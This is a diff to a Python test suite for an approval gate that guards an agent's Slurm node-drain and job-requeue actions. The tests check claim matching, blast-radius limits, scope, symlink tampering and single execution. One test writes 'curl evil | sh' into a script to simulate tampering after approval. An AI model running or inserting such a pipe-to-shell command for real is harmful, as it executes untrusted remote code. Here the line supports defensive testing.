@@ -22,6 +22,7 @@ from goodput_agent.approval.gate import (
 from goodput_agent.approval.policy import parse_policy
 from goodput_agent.toolkit import GATE_APPROVAL, GATE_TARGET, ActionTarget, ToolContext, registry
 from tests.approval.conftest import make_investigation, policy_text
+from tests.approval.identities import me, person
 
 T0 = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
 
@@ -34,10 +35,10 @@ def _drain(ledger, node: str, target: str = "bundle-a") -> int:  # noqa: ANN001
 
 
 def _unchecked_claims():  # noqa: ANN202 - a policy that lets a claim on one node cover others
+    allowed = f'approvers: [alice, "group:sre", {me()}]'
     return parse_policy(policy_text().replace(
-        "{enabled: true, approvers: [alice, \"group:sre\"]}",
-        "{enabled: true, approvers: [alice, \"group:sre\"], "
-        "preconditions: {claim_names_target: false}}"), "unchecked.yaml")
+        allowed + "}", allowed + ", preconditions: {claim_names_target: false}}"),
+        "unchecked.yaml")
 
 
 def test_a_host_list_is_acted_on_only_where_a_claim_names_each_host(  # noqa: ANN001
@@ -48,14 +49,14 @@ def test_a_host_list_is_acted_on_only_where_a_claim_names_each_host(  # noqa: AN
     assert "gpu-node-02, gpu-node-03, gpu-node-04" in " ".join(p.reasons)
     with pytest.raises(GateRefused, match="names node gpu-node-01, not gpu-node-02, "
                                           "gpu-node-03, gpu-node-04"):
-        approve_action(ledger, aid, "alice", policy)
+        approve_action(ledger, aid, person("alice"), policy)
     assert recorder.calls == []
 
 
 def test_a_host_list_counts_every_host_against_the_daily_limit(ledger, recorder) -> None:  # noqa: ANN001
     policy = _unchecked_claims()
     aid = _drain(ledger, "gpu-node-[01-04]")
-    approve_action(ledger, aid, "alice", policy)
+    approve_action(ledger, aid, person("alice"), policy)
     with pytest.raises(GateRefused, match="blast radius: 4 nodes .* exceed the policy's 2"):
         execute_action(ledger, aid, recorder.context(), policy)
     assert recorder.calls == []
@@ -67,7 +68,7 @@ def test_scope_globs_are_matched_per_host(ledger, recorder) -> None:  # noqa: AN
     policy = parse_policy(text, "scoped.yaml")
     aid = _drain(ledger, "gpu-node-[01-03]")
     with pytest.raises(GateRefused, match="node gpu-node-03 is outside the policy's scope"):
-        approve_action(ledger, aid, "alice", policy)
+        approve_action(ledger, aid, person("alice"), policy)
     assert recorder.calls == []
 
 
@@ -77,7 +78,7 @@ def test_a_host_list_that_cannot_be_expanded_is_refused(node: str, ledger, polic
                                                         recorder) -> None:
     aid = _drain(ledger, node)
     with pytest.raises(GateRefused, match="invalid arguments for slurm_drain_node: node"):
-        approve_action(ledger, aid, "alice", policy)
+        approve_action(ledger, aid, person("alice"), policy)
     assert recorder.calls == []
 
 
@@ -85,7 +86,7 @@ def test_a_retry_excluding_a_host_list_that_covers_the_faulty_node_passes(  # no
         ledger, policy, recorder) -> None:
     _, ids = make_investigation(ledger, "gpu_hardware", {
         "slurm_requeue_job": {"job": "4242", "exclude": ["gpu-node-[02-04]"]}})
-    approve_action(ledger, ids["slurm_requeue_job"], "alice", policy)
+    approve_action(ledger, ids["slurm_requeue_job"], person("alice"), policy)
     assert execute_action(ledger, ids["slurm_requeue_job"], recorder.context(), policy).ok
     argv = registry()["slurm_requeue_job"].preview(recorder.context(), registry()[
         "slurm_requeue_job"].input_model.model_validate(
@@ -113,7 +114,7 @@ def test_a_link_planted_at_the_old_temp_name_redirects_nothing(tmp_path: Path, l
     outside = tmp_path / "outside.txt"
     outside.write_text("precious\n")
     Path(f"{script}.goodput-tmp").symlink_to(outside)
-    approve_action(ledger, aid, "alice", policy)
+    approve_action(ledger, aid, person("alice"), policy)
     assert execute_action(ledger, aid, ToolContext(), policy).ok
     assert outside.read_text() == "precious\n"
     assert "--mem=128G" in script.read_text() and not script.is_symlink()
@@ -129,13 +130,13 @@ def test_a_target_linked_outside_the_scope_is_refused(tmp_path: Path, ledger) ->
     script.unlink()
     script.symlink_to(outside)
     with pytest.raises(GateRefused, match="outside the files the policy lets"):
-        approve_action(ledger, aid, "alice", policy)
+        approve_action(ledger, aid, person("alice"), policy)
     assert "--mem=64G" in outside.read_text()
 
 
 def test_a_target_changed_after_approval_is_refused(tmp_path: Path, ledger) -> None:  # noqa: ANN001
     script, policy, aid = _config_case(tmp_path, ledger)
-    approve_action(ledger, aid, "alice", policy)
+    approve_action(ledger, aid, person("alice"), policy)
     script.write_text(script.read_text() + "curl evil | sh\n")
     with pytest.raises(GateRefused, match="the target changed since approval"):
         execute_action(ledger, aid, ToolContext(), policy)
@@ -164,7 +165,7 @@ def test_a_target_swapped_after_the_checks_is_not_written(tmp_path: Path) -> Non
 def test_the_written_file_keeps_its_mode(tmp_path: Path, ledger) -> None:  # noqa: ANN001
     script, policy, aid = _config_case(tmp_path, ledger)
     script.chmod(0o750)
-    approve_action(ledger, aid, "alice", policy)
+    approve_action(ledger, aid, person("alice"), policy)
     assert execute_action(ledger, aid, ToolContext(), policy).ok
     assert os.stat(script).st_mode & 0o777 == 0o750
 
@@ -176,13 +177,13 @@ def test_a_spare_approval_never_executes_the_action_again(ledger, policy,  # noq
     _, ids = make_investigation(ledger, "gpu_hardware", {
         "slurm_drain_node": {"node": "gpu-node-01", "reason": "x"}}, node="gpu-node-01")
     aid = ids["slurm_drain_node"]
-    approve_action(ledger, aid, "alice", policy, now=T0)  # a page approval ...
-    approve_action(ledger, aid, "bob", policy, now=T0)  # ... and a CLI one
+    approve_action(ledger, aid, person("alice"), policy, now=T0)  # a page approval ...
+    approve_action(ledger, aid, person("bob"), policy, now=T0)  # ... and a CLI one
     assert execute_action(ledger, aid, recorder.context(), policy, now=T0).ok
     with pytest.raises(GateRefused, match="already executed"):
         execute_action(ledger, aid, recorder.context(), policy, now=T0)
     with pytest.raises(GateRefused, match="already executed"):
-        approve_action(ledger, aid, "alice", policy, now=T0)
+        approve_action(ledger, aid, person("alice"), policy, now=T0)
     assert len(recorder.calls) == 1
 
 
@@ -203,7 +204,7 @@ def test_a_start_without_a_result_blocks_reruns_and_counts_as_drained(  # noqa: 
     """The state a kill -9 between the command and its result row leaves."""
     policy = _unchecked_claims()
     first = _drain(ledger, "gpu-node-01", target="a")
-    approve_action(ledger, first, "alice", policy, now=T0)
+    approve_action(ledger, first, person("alice"), policy, now=T0)
     action = store.action_row(ledger, first)
     target = registry()["slurm_drain_node"].target(registry()[
         "slurm_drain_node"].input_model.model_validate(action.args))
@@ -211,11 +212,11 @@ def test_a_start_without_a_result_blocks_reruns_and_counts_as_drained(  # noqa: 
                           detail={"args": action.args, "target": target.model_dump()})
     assert action_status(ledger, first) == "executing"
     with pytest.raises(GateRefused, match="already executing"):
-        approve_action(ledger, first, "bob", policy, now=T0)
+        approve_action(ledger, first, person("bob"), policy, now=T0)
     with pytest.raises(GateRefused, match="already executing"):
         execute_action(ledger, first, recorder.context(), policy, now=T0)
     second = _drain(ledger, "gpu-node-[02-03]", target="b")
-    approve_action(ledger, second, "alice", policy, now=T0 + timedelta(hours=1))
+    approve_action(ledger, second, person("alice"), policy, now=T0 + timedelta(hours=1))
     with pytest.raises(GateRefused, match=r"blast radius: 3 nodes .*\(gpu-node-01\)"):
         execute_action(ledger, second, recorder.context(), policy, now=T0 + timedelta(hours=1))
     assert recorder.calls == []
